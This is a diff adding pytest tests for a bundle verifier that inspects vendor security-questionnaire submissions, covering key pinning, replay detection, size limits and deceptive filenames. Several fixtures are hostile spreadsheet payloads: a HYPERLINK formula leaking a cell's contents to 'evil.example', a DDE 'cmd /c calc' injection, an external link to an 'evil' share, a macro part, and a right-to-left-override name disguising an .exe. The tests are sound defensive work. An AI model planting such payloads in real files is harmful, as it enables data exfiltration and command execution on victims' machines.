@@ -366,3 +366,386 @@ def test_what_the_log_proves_is_said(official_bundle, signer, auditor):
     report = verify(official_bundle, signer, auditor)
     assert "the vendor's own record" in report.check(R.ACTIVITY_LOG).detail
     assert "the vendor's clock" in report.check(R.ACTIVITY_TIMES).detail
+
+
+# --- 5. the vendor's checklist and report are inspected, never believed ------------------------------
+
+
+def _rezip(data: bytes, edit) -> bytes:
+    import io
+    import zipfile
+
+    parts = {}
+    with zipfile.ZipFile(io.BytesIO(data)) as zf:
+        for info in zf.infolist():
+            parts[info.filename] = zf.read(info)
+    edit(parts)
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
+        for name, body in parts.items():
+            zf.writestr(name, body)
+    return out.getvalue()
+
+
+def _with_cell(value):
+    def edit(data: bytes, sid: str) -> bytes:
+        import io
+
+        from openpyxl import load_workbook
+
+        wb = load_workbook(io.BytesIO(data))
+        wb["チェックリスト"]["E5"] = value
+        out = io.BytesIO()
+        wb.save(out)
+        return out.getvalue()
+    return edit
+
+
+def _external_link(data: bytes, sid: str) -> bytes:
+    rel = ('<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
+           'externalLink" Target="file://///evil/share/x.xlsx" TargetMode="External"/></Relationships>')
+    name = "xl/_rels/workbook.xml.rels"
+    return _rezip(data, lambda p: p.update({name: p[name].replace(b"</Relationships>", rel.encode())}))
+
+
+def _macro(data: bytes, sid: str) -> bytes:
+    return _rezip(data, lambda p: p.update({"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\0" * 512}))
+
+
+def _other_submission(data: bytes, sid: str) -> bytes:
+    other = "00000000-1111-2222-3333-444444444444"
+    return _rezip(data, lambda p: p.update({k: v.replace(sid.encode(), other.encode())
+                                            for k, v in p.items()}))
+
+
+@pytest.mark.parametrize(("edit", "named"), [
+    (_with_cell('=HYPERLINK("https://evil.example/?"&F5,"詳細")'), "formula: cell E5"),
+    (_with_cell("=cmd|' /c calc'!A0"), "dde: a DDE call"),
+    (_external_link, "external-link: xl/_rels/workbook.xml.rels points outside the workbook"),
+    (_macro, "macro: part xl/vbaProject.bin"),
+    (_other_submission, "binding: it was made for submission 00000000-1111-2222-3333-444444444444"),
+])
+def test_a_bundled_workbook_with_active_content_or_another_binding_fails(official_bundle, kit, signer,
+                                                                         auditor, edit, named):
+    content = kit.take_apart(official_bundle)
+    sid = content.manifest["submission_id"]
+    content.files[bf.CHECKLIST] = edit(content.files[bf.CHECKLIST], sid)
+    report = verify(kit.build(content), signer, auditor)
+    detail = failed(report)[R.VENDOR_DOCUMENTS]
+    assert detail.startswith("checklist.xlsx: ") and named in detail, detail
+    assert set(failed(report)) == {R.VENDOR_DOCUMENTS}  # nothing else is wrong with the bundle
+
+
+def test_the_auditor_is_offered_its_own_renderings(official_bundle, signer, auditor, tmp_path):
+    """open says the folder's checklist/report are the vendor's; checklist/report render the app's own."""
+    dest = tmp_path / "opened"
+    r = _cli("open", str(official_bundle), "--signer", str(signer.public_path), "--identity",
+             str(auditor.identity_path), "--out", str(dest))
+    assert r.code == 0, r.err
+    assert "checklist.xlsx and report.pdf in the folder are the vendor's renderings" in r.out
+    r = _cli("checklist", str(dest), "--out", str(tmp_path / "mine.xlsx"))
+    assert r.code == 0, r.err
+    assert (tmp_path / "mine.xlsx").read_bytes() != (dest / bf.CHECKLIST).read_bytes()
+    ok = verify(official_bundle, signer, auditor).check(R.VENDOR_DOCUMENTS)
+    assert ok.ok and "the app renders its own" in ok.detail and "report.pdf is hashed only" in ok.detail
+
+
+# --- 6. names that display as something else -------------------------------------------------------------
+
+
+RLO_NAME = "ISMS-certificate-\u202efdp.exe"
+
+
+def test_export_refuses_names_that_display_as_another(complete_ws, tmp_path, signer, auditor):
+    from exports.errors import BundleError
+    from storage import EvidenceMeta
+
+    src = tmp_path / "cert.pdf"
+    src.write_bytes(b"%PDF-1.4 x")
+    complete_ws.add_evidence("CERT-02", src, EvidenceMeta("certificate"), filename=RLO_NAME)
+    with pytest.raises(BundleError, match=r"U\+202E RIGHT-TO-LEFT OVERRIDE .*\(rule: bidi-control\)") as exc:
+        export_bundle(complete_ws, tmp_path / "b.zip", signing_key=signer.key, recipients=[auditor.recipient])
+    assert "\u202e" not in str(exc.value)  # shown escaped
+    assert not (tmp_path / "b.zip").exists()
+
+
+def test_export_refuses_a_vendor_name_with_format_characters(tmp_path, mini_template, signer, auditor):
+    from exports.errors import BundleError
+
+    from .bundle_support import fill_complete
+
+    with Workspace.create(tmp_path / "ws", PASSPHRASE, vendor="株式会社\u200bサンプル",
+                          template=mini_template, kdf=FAST_KDF) as ws:
+        fill_complete(ws, tmp_path / "src")
+        with pytest.raises(BundleError, match=r"vendor name: U\+200B ZERO WIDTH SPACE .*format-character"):
+            export_bundle(ws, tmp_path / "b.zip", signing_key=signer.key, recipients=[auditor.recipient])
+
+
+def _rename_evidence(content, new_name: str) -> None:
+    """Rename the first evidence file everywhere the vendor writes its name."""
+    doc = content.json(bf.ANSWERS)
+    ev = doc["evidence"][0]
+    old_path = ev["path"]
+    ev["filename"] = new_name
+    ev["path"] = f"evidence/{ev['item_id']}/{new_name}"
+    content.put_json(bf.ANSWERS, doc)
+    content.manifest["evidence"] = doc["evidence"]
+    content.rename_member(old_path, ev["path"])
+    log = content.log
+    for e in log:
+        if e["action"] == "evidence.added" and e["detail"]["evidence"] == ev["id"]:
+            e["detail"]["filename"] = new_name
+    content.put_log(log)
+
+
+@pytest.mark.parametrize(("name", "rule"), [
+    (RLO_NAME, "bidi-control"),
+    ("証明書\u200b.pdf", "format-character"),
+    ("CON.pdf", "windows-reserved-name"),
+    ("certificate.pdf.", "windows-trailing-dot"),
+])
+def test_member_names_that_display_as_another_fail_verify(official_bundle, kit, signer, auditor, name, rule):
+    content = kit.take_apart(official_bundle)
+    _rename_evidence(content, name)
+    bundle = kit.build(content)
+    report = verify(bundle, signer, auditor)
+    detail = failed(report)[R.ARCHIVE]
+    assert f"(rule: {rule})" in detail, detail
+    r = _cli("verify", str(bundle), "--signer", str(signer.public_path), "--identity",
+             str(auditor.identity_path))
+    assert r.code == 1 and f"rule: {rule}" in r.out
+    assert "\u202e" not in r.out + r.err and "\u200b" not in r.out + r.err  # escaped when shown
+
+
+@pytest.mark.parametrize(("where", "rule"), [
+    ("vendor", "bidi-control"),
+    ("title", "format-character"),
+])
+def test_vendor_and_evidence_names_that_display_as_another_fail_verify(official_bundle, kit, signer, auditor,
+                                                                       where, rule):
+    content = kit.take_apart(official_bundle)
+    if where == "vendor":
+        content.sync_answers(vendor="株式会社\u202eーイビ")
+    else:
+        doc = content.json(bf.ANSWERS)
+        doc["evidence"][0]["title"] = "ISMS\u2060登録証"
+        content.put_json(bf.ANSWERS, doc)
+        content.manifest["evidence"] = doc["evidence"]
+    report = verify(kit.build(content), signer, auditor)
+    detail = failed(report)[R.NAMES]
+    assert f"(rule: {rule})" in detail and ("vendor name" if where == "vendor" else " title:") in detail
+
+
+# --- 7. vendor name against pinned key: the CLI has the pins too ------------------------------------------
+
+
+def test_the_cli_pins_keys_and_refuses_a_key_under_another_name_or_a_name_with_another_key(
+        official_bundle, kit, signer, other_signer, auditor, tmp_path):
+    pins = tmp_path / "pins.json"
+    base = ("--identity", str(auditor.identity_path), "--pins", str(pins))
+
+    def run(bundle, key, *extra):
+        return _cli("verify", str(bundle), "--signer", str(key.public_path), *base, *extra)
+
+    r = run(official_bundle, signer)
+    assert r.code == 0, r.err
+    assert f"first bundle of '{VENDOR}': key {signer.key_id} is not pinned yet; pinned now" in r.out
+    # the same key signs a bundle that calls its vendor 株式会社ビー
+    content = kit.take_apart(official_bundle)
+    content.sync_answers(vendor="株式会社ビー")
+    impostor = kit.build(content)
+    r = run(impostor, signer)
+    assert r.code == 1 and "signer-pin" in r.err
+    assert (f"key {signer.key_id} is pinned for '{VENDOR}', but this bundle calls its vendor "
+            "'株式会社ビー'") in r.out
+    assert "--accept-signer" in r.out and "verified" not in r.out
+    # another key signs as 株式会社サンプル
+    other = VendorKit(tmp_path / "other", other_signer, auditor).build(kit.take_apart(official_bundle))
+    r = run(other, other_signer)
+    assert r.code == 1 and f"'{VENDOR}' is pinned to key {signer.key_id}" in r.out
+    # nothing was re-pinned on its own
+    import json
+
+    doc = json.loads(pins.read_text("utf-8"))
+    assert [(p["vendor"], p["key_id"]) for p in doc["pins"]] == [(VENDOR, signer.key_id)]
+    # the auditor decides explicitly
+    r = run(impostor, signer, "--accept-signer")
+    assert r.code == 0 and "ACCEPTED by you" in r.out
+    assert run(impostor, signer).code == 0  # now pinned under both names
+    # the desktop app reads the same pins (its default store is the same file)
+    from exports.bundle_pins import PinStore
+
+    assert {p.vendor for p in PinStore(pins).all()} == {VENDOR, "株式会社ビー"}
+
+
+# --- 8. replays: submission ID and Japan-time export time first; earlier sightings -------------------------
+
+
+def test_export_time_in_japan_time():
+    import datetime as dt
+
+    from exports.bundle_report import format_jst
+
+    when = dt.datetime(2026, 12, 1, 5, 3, tzinfo=dt.UTC)
+    assert format_jst(when) == "2026年12月1日 14:03 JST"
+    assert format_jst(when, "en") == "2026-12-01 14:03 JST"
+
+
+def test_a_replayed_submission_is_recognised(official_bundle, kit, signer, auditor, tmp_path):
+    args = ("--signer", str(signer.public_path), "--identity", str(auditor.identity_path))
+    r = _cli("verify", str(official_bundle), *args)
+    assert r.code == 0, r.err
+    report = verify(official_bundle, signer, auditor)
+    head = r.out.splitlines()[:2]
+    assert head[0] == f"submission  : {report.submission_id}"
+    assert head[1].startswith(f"exported    : {_jst(report.exported_at)} (signed by key {signer.key_id}")
+    r = _cli("verify", str(official_bundle), *args)  # the auditor looks again: said, not alarming
+    assert "this submission ID was seen before" in r.out and "(the same signed payload)" in r.out
+    assert _last_line(r).startswith("verified:")
+    # the old payload re-signed under its own ID: same submission, other signed bytes
+    replayed = kit.build(kit.take_apart(official_bundle))
+    r = _cli("--lang", "en", "verify", str(replayed), *args)
+    assert r.code == 0
+    assert _last_line(r).startswith("WARNING: this submission ID was seen before with DIFFERENT content")
+    assert f"verify of {official_bundle}" in r.out and "re-signed or replayed" in r.out
+    r = _cli("verify", str(replayed), *args, "--json")
+    import json
+
+    assert json.loads(r.out)["replay_suspected"] is True
+    r = _cli("--lang", "ja", "open", str(replayed), *args, "--out", str(tmp_path / "o"))
+    assert r.code == 0 and r.out.splitlines()[0] == f"提出ID      : {report.submission_id}"
+    assert "注意: この提出IDは以前に別の内容で確認されています" in r.out
+
+
+def _jst(when):
+    from exports.bundle_report import format_jst
+
+    return format_jst(when, "en")
+
+
+# --- 9. bounded work: cancellable after the last byte too ---------------------------------------------------
+
+
+def test_the_checks_after_the_last_byte_honour_cancel(official_bundle, signer, auditor, tmp_path):
+    from storage.errors import Cancelled
+
+    state = {"done": 0, "total": 1}
+    with pytest.raises(Cancelled):  # every byte was read: only the content checks are left
+        verify(official_bundle, signer, auditor, progress=lambda d, t: state.update(done=d, total=t),
+               cancel=lambda: state["done"] >= state["total"] > 1)
+    from exports.bundle import open_bundle
+
+    state = {"done": 0, "total": 1}
+    with pytest.raises(Cancelled):
+        open_bundle(official_bundle, tmp_path / "o", signer=signer.public_path,
+                    identity=auditor.identity_path, progress=lambda d, t: state.update(done=d, total=t),
+                    cancel=lambda: state["done"] >= state["total"] > 1)
+    assert not (tmp_path / "o").exists()
+
+
+# --- 10. every text bounded by the template's and the vendor app's limits --------------------------------
+
+
+def _long_note(content):
+    doc = content.json(bf.ANSWERS)
+    doc["answers"]["AGR-01"]["note"] = "備" * 8_001
+    content.put_json(bf.ANSWERS, doc)
+    log = content.log
+    for e in log:
+        if e["action"] == "answer.set" and e["item"] == "AGR-01":
+            e["detail"]["note"] = "備" * 8_001
+    content.put_log(log)
+
+
+def _long_vendor(content):
+    content.sync_answers(vendor="株" * 501)
+
+
+def _long_log_line(content):
+    log = content.log
+    log.append({"at": log[-1]["at"], "action": "report.exported", "item": None,
+                "detail": {"file": "r.pdf", "sha256": "0" * 64, "pad": "x" * 300_000}})
+    content.put_log(log)
+
+
+@pytest.mark.parametrize(("edit", "named"), [
+    (_long_note, "note of AGR-01: 8001 characters long; at most 8000 are allowed (rule: note-too-long)"),
+    (_long_vendor, "vendor name: 501 characters long; at most 500 are allowed (rule: vendor-too-long)"),
+    (_long_log_line, "activity-log.jsonl: an entry is 300"),
+])
+def test_texts_past_the_limits_fail(official_bundle, kit, signer, auditor, edit, named):
+    content = kit.take_apart(official_bundle)
+    edit(content)
+    report = verify(kit.build(content), signer, auditor)
+    assert named in failed(report)[R.LIMITS], failed(report)[R.LIMITS]
+
+
+def test_renderers_on_an_opened_folder_get_bounded_input(official_bundle, signer, auditor, tmp_path):
+    """A folder edited after it was opened: a 4 MiB note is refused at once, not rendered for minutes."""
+    import json
+    import time
+
+    dest = tmp_path / "opened"
+    r = _cli("open", str(official_bundle), "--signer", str(signer.public_path), "--identity",
+             str(auditor.identity_path), "--out", str(dest))
+    assert r.code == 0, r.err
+    doc = json.loads((dest / bf.ANSWERS).read_text("utf-8"))
+    doc["answers"]["AGR-01"]["note"] = "備" * (4 << 20)
+    (dest / bf.ANSWERS).write_text(json.dumps(doc, ensure_ascii=False), "utf-8")
+    started = time.monotonic()
+    r = _cli("report", str(dest), "--out", str(tmp_path / "r.pdf"))
+    assert r.code == 1 and "rule: note-too-long" in r.err and len(r.err.strip().splitlines()) == 1
+    assert time.monotonic() - started < 60  # refused before rendering (the issue measured 253 s)
+    assert not (tmp_path / "r.pdf").exists()
+
+
+# --- the rules' own bookkeeping ---------------------------------------------------------------------------
+
+
+def test_every_action_the_app_logs_is_known_to_the_log_check():
+    """A new activity action must be added to exports/bundle_log.KNOWN_ACTIONS, or every bundle
+    of a workspace that used it would fail verification."""
+    import re
+
+    from exports.bundle_log import KNOWN_ACTIONS
+
+    from .conftest import ROOT
+
+    written = set()
+    for folder in ("storage", "exports", "desktop", "cli"):
+        for path in (ROOT / folder).rglob("*.py"):
+            for line in path.read_text("utf-8").splitlines():
+                if re.search(r"tx\.log\(|record_activity\(|LogEntry\.make\(|_ACTION =|ACTIONS = ", line):
+                    written |= set(re.findall(r'"([a-z_]+\.[a-z_]+)"', line))
+    assert {"answer.set", "workspace.restored", "review.imported", "checklist.exported"} <= written
+    assert written <= KNOWN_ACTIONS, written - KNOWN_ACTIONS
+
+
+def test_the_released_template_never_changes():
+    from questionnaire.official_templates import OFFICIAL_PATTERN, official_templates
+
+    from .conftest import ROOT
+
+    registry = official_templates()
+    v1 = registry.find("ccus-personal-info-survey", "1.0.0")
+    assert v1.file == "ccus-survey-v1.yaml"
+    assert v1.sha256 == "fd113ec1ea604caaf6c6bc40156972731cf54dd4cac58eb312a05618cfb50a3b"
+    shipped = sorted(p.name for p in (ROOT / "questionnaire" / "templates").glob(OFFICIAL_PATTERN))
+    assert sorted(e.file for e in registry) == shipped  # data-driven: every file is a released version
+
+
+def test_two_files_may_not_release_the_same_version():
+    from questionnaire.errors import TemplateError
+    from questionnaire.official_templates import OfficialTemplate, TemplateRegistry
+
+    t = official_template()
+    with pytest.raises(TemplateError, match="also released as"):
+        TemplateRegistry([OfficialTemplate("a.yaml", t), OfficialTemplate("b.yaml", t)])
+
+
+def test_the_vendor_app_limits_are_the_ones_verify_enforces():
+    from questionnaire.answers import MAX_NOTE_CHARS
+    from questionnaire.submission_rules import MAX_META_CHARS
+    from storage.workspace import MAX_META_CHARS as VENDOR_APP_META
+
+    assert MAX_META_CHARS == VENDOR_APP_META and MAX_NOTE_CHARS == 8000
